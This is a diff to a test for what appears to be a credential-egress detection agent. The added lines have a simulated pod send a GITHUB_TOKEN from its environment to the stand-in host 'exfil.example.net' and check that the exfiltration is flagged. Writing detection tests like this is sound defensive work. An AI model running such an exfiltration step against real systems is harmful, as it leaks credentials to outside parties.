@@ -258,13 +258,21 @@ def test_pods_ownership_egress_reader_shared_inventory_restart():
         assert set(hits[0]["credential"]["loaded_by"]) >= {a.workload, c.workload}
         assert hits[0]["threat"]["technique"]["id"] == "NHI-09"
 
+        # Pod C got it in its environment after pod A owned it: a latecomer, not an owner
+        # (else a stolen token passed in an environment would make its thief an owner).
+        c.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+              secret_env="GITHUB_TOKEN", secret=token)
+        assert agent.wait_for(lambda l: l["event"]["action"] == "credential-egress" and
+                              l["credwatch"]["workload"] == c.workload, timeout=15)
+
         time.sleep(1.5)  # anything further would be a duplicate or a false alarm
         assert not [l for l in own(agent, token, "credential-egress")
-                    if l["credwatch"]["workload"] != b.workload], "an owner was flagged"
+                    if l["credwatch"]["workload"] not in (b.workload, c.workload)], \
+            "an owner was flagged"
         assert not [l for l in own(agent, token, "credential-unexpected-destination")
                     if l["credwatch"]["workload"] == a.workload], \
             "the provider's own host was flagged"
-        assert len(own(agent, token, "credential-egress")) == 1
+        assert len(own(agent, token, "credential-egress")) == 2
         assert agent.stop() == 0
         agent.assert_no_plaintext(token, sa)
 
